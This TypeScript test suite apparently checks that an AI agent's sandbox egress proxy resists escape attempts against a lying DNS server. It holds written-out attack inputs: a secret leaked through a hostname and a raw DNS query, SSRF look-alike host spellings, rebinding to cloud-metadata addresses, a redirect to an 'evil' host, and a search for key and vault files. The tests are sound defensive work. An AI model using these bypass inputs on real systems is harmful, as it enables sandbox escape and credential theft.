/**
 * The one way out of a real sandbox, against a name server that lies: promises 6 to 10, 13, 14, 24 and 28, each attacked
 * by commands that the agent runs. One host and its sandbox live through all of them; they must not help each other.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmdirSync, rmSync, statSync } from 'node:fs';
import { createServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { type TestContext, test } from 'node:test';
import { verify } from '../../../packages/host/src/egress/audit/chain.ts';
import { CERT, KEY } from '../../../packages/host/test/egress/loopback-tls.ts';
import { houseFor } from '../house/house.ts';
import { type Inside, openInside } from '../house/inside.ts';
import { type LyingDns, lyingDnsMissing, openLyingDns } from '../house/lying-dns.ts';
import { missing, type SandboxKind } from '../house/machine.ts';
import { until } from '../house/until.ts';

const HOST = 'good.bellhop-test.example';
/** Two addresses of this machine, a server on each at one port: which of them was gone to is seen. */
const [FIRST, SECOND] = ['127.0.0.1', '127.0.0.2'];
const BODY = 'canary-body-5551234';
/** As any client goes, but for the certificate, which nothing trusts, and NO_PROXY, which holds some of our hosts. */
const CURL = "curl -sk --noproxy '' -o - -w ' %{http_connect}' --max-time 20";
/** A client of our own, which says what none would: its arguments are targets, its words `status target` in lines. */
const CONNECTS = `/bellhop/node -e '
  const { hostname, port } = new URL(process.env.HTTPS_PROXY);
  const ask = (target) => new Promise((done) => {
    const socket = require("net").connect(+port, hostname, () => socket.write("CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target + "\\r\\n\\r\\n"));
    socket.once("data", (said) => { done(String(said).split(" ")[1]); socket.destroy(); });
    socket.on("error", () => done("cut")).on("close", () => done("cut"));
  });
  (async () => { for (const target of JSON.parse(process.argv[1])) console.log(await ask(target), target); })();'`;

interface Reached {
  readonly address: string;
  readonly url: string;
  /** Rows of the audit that named the request when it came. */
  readonly audited: number;
}

interface Street extends Inside {
  readonly dns: LyingDns;
  readonly port: number;
  readonly reached: Reached[];
}

export function wayOutSuite(sandbox: SandboxKind): void {
  const options = { skip: missing[sandbox] || lyingDnsMissing };

  test(`the way out of a sandbox beside a lying name server, ${sandbox}`, options, async (t) => {
    const street = await openStreet(t, sandbox);
    const { house, dns, port, reached, run, bellhop } = street;
    const to = `${HOST}:${port}`;
    const rowsOf = (target: string) => auditOf(house.data).filter((row) => row.includes(target));
    dns.answers.set(HOST, () => [FIRST]);

    await t.test(
      'promises 7 and 9: attack: without a rule nothing is reached, and no name is told to anybody',
      async () => {
        const [named, secret, direct, udp, looked] = await run(
          'main',
          `${CURL} https://${to}/`,
          `${CURL} https://my-secret-is-hunter2.bellhop-test.example/`,
          `curl -sk --noproxy '*' --max-time 5 https://${FIRST}:${port}/; echo code $?`,
          `/bellhop/node -e '
          const socket = require("dgram").createSocket("udp4");
          socket.on("error", (error) => { console.log(error.code); process.exit(); });
          socket.send(Buffer.from("0001010000010000000000000673656372657400", "hex"), 53, "${dns.address}");
          setTimeout(() => { console.log("nothing came"); process.exit(); }, 300);'`,
          'getent hosts hunter3.bellhop-test.example || echo no name',
        );
        assert.match(named ?? '', / 403/);
        assert.match(secret ?? '', / 403/);
        assert.match(direct ?? '', /code 7/);
        assert.match(udp ?? '', /ENETUNREACH|EPERM|EACCES|nothing came/);
        assert.match(looked ?? '', /no name/);
        assert.deepEqual([dns.asked, reached], [[], []]);
      },
    );

    await t.test(
      'promise 6: the pair: the host that its owner allows is reached, by its name, while he does',
      async () => {
        await bellhop(['hosts', 'allow', to, '--private']);
        assert.match((await run('main', `${CURL} https://${to}/pair`))[0] ?? '', /pong 200/);
        await bellhop(['hosts', 'remove', to]);
        assert.match((await run('main', `${CURL} https://${to}/gone`))[0] ?? '', / 403/);
        assert.deepEqual(
          reached.splice(0).map(({ url }) => url),
          ['/pair'],
        );
      },
    );

    await t.test(
      'promise 8: attack: the same host by other spellings, and others that look like it',
      async () => {
        await bellhop(['hosts', 'allow', to, '--private']);
        dns.asked.length = 0;
        const targets = lookAlikes(port);
        const [said = ''] = await run('main', `${CONNECTS} '${JSON.stringify(targets)}'`);
        const lines = said.split('\n');
        assert.equal(lines.length, targets.length, said);
        for (const line of lines) assert.match(line, /^(4\d\d|cut) /, line);
        assert.deepEqual([dns.asked, reached], [[], []]);
        const [own = ''] = await run('main', `${CONNECTS} '${JSON.stringify([to])}'`);
        assert.match(own, /^200 /);
      },
    );

    await t.test(
      'promise 9: attack: names that lead into this machine, its networks, or to the keys of a cloud',
      async () => {
        const lies: readonly (readonly string[])[] = [
          ['127.0.0.1'],
          ['10.0.0.1'],
          ['192.168.1.1'],
          ['100.100.100.200'],
          ['169.254.169.254'],
          ['0.0.0.0'],
          ['::1'],
          ['::ffff:127.0.0.1'],
          ['fd00:ec2::254'],
          ['64:ff9b::7f00:1'],
          // One good face is not enough, whichever comes first.
          ['93.184.215.14', '127.0.0.1'],
          ['127.0.0.1', '93.184.215.14'],
        ];
        for (const [n, addresses] of lies.entries()) {
          dns.answers.set(`lie-${n}.bellhop-test.example`, () => addresses);
          await bellhop(['hosts', 'allow', `lie-${n}.bellhop-test.example:${port}`]);
        }
        const [said = ''] = await run(
          'main',
          `${CONNECTS} '${JSON.stringify(lies.map((_, n) => `lie-${n}.bellhop-test.example:${port}`))}'`,
        );
        assert.deepEqual(
          said.split('\n'),
          lies.map((_, n) => `403 lie-${n}.bellhop-test.example:${port}`),
        );
        // What is allowed as private may be this machine, but never where a cloud keeps its keys.
        await bellhop(['hosts', 'allow', `lie-4.bellhop-test.example:${port}`, '--private']);
        assert.match(
          (await run('main', `${CURL} https://lie-4.bellhop-test.example:${port}/`))[0] ?? '',
          / 403/,
        );
        assert.deepEqual(reached, []);
      },
    );

    await t.test(
      'promise 9: attack: a name that leads elsewhere a moment later: the judged address is gone to',
      async () => {
        const name = 'flip.bellhop-test.example';
        dns.answers.set(name, (nth) => [nth % 2 === 1 ? FIRST : SECOND]);
        await bellhop(['hosts', 'allow', `${name}:${port}`, '--private']);
        dns.asked.length = 0;
        await run('main', ...[1, 2, 3, 4].map((n) => `${CURL} https://${name}:${port}/${n}`));
        assert.deepEqual(
          reached.splice(0).map(({ address, url }) => `${address}${url}`),
          [`${FIRST}/1`, `${SECOND}/2`, `${FIRST}/3`, `${SECOND}/4`],
        );
        assert.deepEqual(dns.asked, Array(4).fill(name));
      },
    );

    await t.test('promise 8: attack: a redirect to a host that is not allowed, or leads inside', async () => {
      const [outside = '', inside = ''] = await run(
        'main',
        `${CURL} -L https://${to}/moved?https://evil.bellhop-test.example:${port}/`,
        `${CURL} -L https://${to}/moved?https://lie-0.bellhop-test.example:${port}/`,
      );
      for (const said of [outside, inside]) assert.match(said, / 403/);
      assert.deepEqual(
        reached.splice(0).map(({ url }) => url.split('?')[0]),
        ['/moved', '/moved'],
      );
      assert.ok(!dns.asked.includes('evil.bellhop-test.example'));
    });

    await t.test(
      'promise 24: each request is in the audit before it arrives, without its body; the chain is whole',
      async () => {
        const before = rowsOf(to).length;
        await run('main', ...[1, 2].map((n) => `${CURL} -d ${BODY} https://${to}/posted-${n}`));
        const rows = reached.splice(0).map(({ audited }) => audited);
        assert.equal(rows.length, 2);
        assert.ok((rows[0] ?? 0) > before && (rows[1] ?? 0) > (rows[0] ?? 0), `${before}, then ${rows}`);
        // In another session: this one has been refused so much that not each of it has a row.
        await run('other', `${CURL} https://refused.bellhop-test.example/`);
        assert.equal(rowsOf('refused.bellhop-test.example').length, 1);
        assert.ok(!auditOf(house.data).join().includes(BODY));
        assert.equal((await verify(Readable.from(auditOf(house.data)), null)).fault, null);
      },
    );

    await t.test(
      "promises 13 and 28: attack: another session's socket, the vault, the audit and the store are not there",
      async () => {
        const search = [
          'find / -xdev -type s 2>/dev/null; find /run /bellhop /workspace /tmp -type s 2>/dev/null',
          'find / \\( -name "bellhop.db*" -o -name "audit.jsonl*" -o -name ca.json -o -name "vault*" -o -name "*.key" -o -name prices.json \\) -not -path "/proc/*" 2>/dev/null | grep -v -E "^/(usr|etc/ssl|sys)/"; echo end',
        ];
        const [here = '', files = ''] = await run('main', ...search);
        const [there = ''] = await run('other', search[0] ?? '');
        const names = (said: string) => [...new Set(said.split('\n'))].sort();
        // Each sees its own two, by the same names, and none of another's.
        assert.deepEqual(names(here), names(there));
        assert.deepEqual(
          names(here)
            .map((path) => path.split('/').at(-1))
            .sort(),
          ['egress.sock', 'host.sock'],
        );
        assert.equal(files, 'end');
        for (const name of readdirSync(join(house.data, 'egress'))) {
          const { mode } = statSync(join(house.data, 'egress', name));
          assert.equal(mode & 0o077, 0, name);
        }
      },
    );
  });

  test(`promise 14: attack: ${sandbox}: while the way out cannot be opened no sandbox starts; then one does`, {
    skip: missing[sandbox],
  }, async (t) => {
    const house = houseFor(t, sandbox);
    house.writeSettings({ retryBaseMs: 100 });
    // A folder where the audit should be: nothing can be written there, so nothing goes out.
    const audit = join(house.data, 'egress', 'audit.jsonl');
    mkdirSync(audit, { recursive: true, mode: 0o700 });
    await house.up();
    assert.equal((await house.api.send({ id: 'm1', text: 'run id' })).status, 202);
    await until('it waits, and says why', async () => {
      return /way out|egress/.test(JSON.stringify((await house.api.message('m1')).body));
    });
    assert.deepEqual(house.sandboxes(), []);
    rmdirSync(audit);
    await until('it is answered', async () => (await house.api.message('m1')).body.settled);
    const said = house.records.conversation('main').map(({ text }) => text);
    assert.equal(said.filter((text) => /uid=/.test(text ?? '')).length, 1);
  });
}

async function openStreet(t: TestContext, sandbox: SandboxKind): Promise<Street> {
  const dir = mkdtempSync(join(tmpdir(), 'bh-dns-'));
  t.after(() => rmSync(dir, { recursive: true }));
  const dns = await openLyingDns(t, dir);
  const reached: Reached[] = [];
  const inside = await openInside(t, sandbox, { resolvConf: dns.resolvConf });
  let port = 0;
  for (const address of [FIRST, SECOND]) {
    const open = new Set<Socket>();
    const server = createServer({ cert: CERT, key: KEY }, (request, response) => {
      const url = request.url ?? '';
      const audited = auditOf(inside.house.data).filter((row) => row.includes(`${HOST}:${port}`)).length;
      reached.push({ address, url, audited });
      const [, location] = url.split('?');
      if (location !== undefined) response.writeHead(302, { location });
      response.end('pong');
    });
    server.on('connection', (socket: Socket) => open.add(socket));
    server.listen(port, address);
    await once(server, 'listening');
    port = (server.address() as AddressInfo).port;
    t.after(() => {
      for (const socket of open) socket.destroy();
      server.close();
    });
  }
  return { ...inside, dns, port, reached };
}

function auditOf(data: string): string[] {
  return readFileSync(join(data, 'egress', 'audit.jsonl'), 'utf8')
    .trimEnd()
    .split('\n');
}

function lookAlikes(port: number): string[] {
  const hosts = [
    '*',
    '*.bellhop-test.example',
    `x${HOST}`,
    `x.${HOST}`,
    `${HOST}.`,
    `${HOST}..`,
    `.${HOST}`,
    `${HOST}.evil.example`,
    'bellhop-test.example',
    `evil@${HOST}`,
    `${HOST}@evil.example`,
    `${HOST}%2eevil.example`,
    `good%2ebellhop-test.example`,
    'good\u3002bellhop-test.example',
    'g\u043e\u043ed.bellhop-test.example',
    `${HOST}#.evil.example`,
    `${HOST}/`,
    'localhost',
    FIRST ?? '',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '127.1',
    '0',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
  ];
  return [
    ...hosts.map((host) => `${host}:${port}`),
    HOST,
    `${HOST}:`,
    `${HOST}:0`,
    `${HOST}:${port + 1}`,
    `${HOST}:${port}:1`,
    `:${port}`,
  ];
}
